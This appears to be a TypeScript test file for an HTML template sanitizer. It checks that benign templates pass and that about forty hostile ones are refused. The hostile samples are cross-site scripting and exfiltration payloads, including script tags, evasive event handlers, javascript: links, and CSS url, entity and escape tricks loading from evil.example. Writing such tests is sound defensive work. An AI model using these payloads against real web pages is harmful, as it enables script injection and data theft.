import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findTemplateFaults } from './html-template.ts';

const faultsOf = (template: string) => findTemplateFaults(template, 'meta.spec');

const harmless = [
  'Total: {{format total ".2f"}} at 5 > 3',
  '<h1 class="title">{{title}}</h1><p style="color: #333; margin: 0 auto">Text &lt;b&gt; and a \\ too</p>',
  '{{#each rows}}<tr><td colspan=\'2\'>{{this.name}}</td><td title="{{name}}"></td></tr>{{/each}}',
  '<style>.a { color: red } .b > .c { width: 50% }</style><div class="{{kind}}" data-row="1"></div>',
  '<TABLE WIDTH="100%"><TBODY></TBODY></TABLE><br/><hr />',
  '<meter min="0" max="100" value="{{share}}"></meter><details open><summary>More</summary></details>',
];
for (const template of harmless)
  test(`a template may be ${JSON.stringify(template.slice(0, 60))}`, () => {
    assert.deepEqual(faultsOf(template), []);
  });

const hostile = {
  'a script': '<script>fetch("/api/v1/users")</script>',
  'a script in mixed case': '<ScRiPt src="x">',
  'a picture': '<img src="https://evil.example/{{total}}">',
  'a picture without quotes': '<img src=https://evil.example/x>',
  'a handler': '<div onclick="parent.postMessage(1)">',
  'a handler behind a slash': '<div/onclick="x">',
  'a handler in an odd place': '<p title="a"onclick="x">',
  'a handler on a line of its own': '<p\n\tonpointerenter\n="x">',
  'a link': '<a href="javascript:alert(1)">x</a>',
  'a frame': '<iframe srcdoc="x"></iframe>',
  'a form': '<form action="https://evil.example"><input name="a"></form>',
  'a base': '<base href="https://evil.example">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=//evil.example">',
  'a sheet': '<link rel="stylesheet" href="//evil.example">',
  'a background': '<table background="//evil.example">',
  'a drawing': '<svg><image href="//evil.example"/></svg>',
  'a style that loads': '<p style="background: url(//evil.example)">',
  'a style that loads, in entities': '<p style="background: &#117;rl(//evil.example)">',
  'a style that loads, in escapes': String.raw`<p style="background: \75rl(//evil.example)">`,
  'a style that loads an image set': '<p style=\'background: image-set("//evil.example" 1x)\'>',
  'a style made of rows': '<p style="{{value}}">',
  'an import': '<style>@import "//evil.example";</style>',
  'a font': '<style>@font-face { font-family: a; src: url(//evil.example) }</style>',
  'a style element that is closed within a comment': '<style>/* </style><img src=x> */',
  'a style element with markup that a browser reads as style': '<style><p title="} p { color: red"></style>',
  'a style element that is made of two parts': '<st<style></style>yle>p {}</style>',
  'a style element made of rows': '<style>{{css}}</style>',
  'rows as HTML': '<p>{{{html}}}</p>',
  'rows as HTML by the other sign': '<p>{{& html}}</p>',
  'rows as HTML behind a tilde': '<p>{{~{html}~}}</p>',
  'an element that a row names': '<{{tag}} src="x">',
  'an attribute that a row names': '<p {{name}}="x">',
  'an attribute that a row writes': '<p class={{value}}>',
  'a comment': '<!-- <p> -->',
  'a comment that a browser ends early': '<!--><img src=x>-->',
  'an element that never ends': '<img src="https://evil.example/',
  'markup that is none': '<![CDATA[<img src=x>]]><?php ?>',
  'an element with a colon': '<svg:script>x</svg:script>',
};
for (const [what, template] of Object.entries(hostile))
  test(`a template that holds ${what} is refused`, () => {
    const faults = faultsOf(template);
    assert.ok(faults.length > 0);
    assert.ok(faults.every(({ path, message }) => path === 'meta.spec' && message !== ''));
  });

test('a long template is read in time that grows with its length', () => {
  for (const part of ['<p ', '<p a ', '{{', '<style>', "<p a='", '< '])
    assert.ok(faultsOf(part.repeat(100_000)).length > 0, part);
});
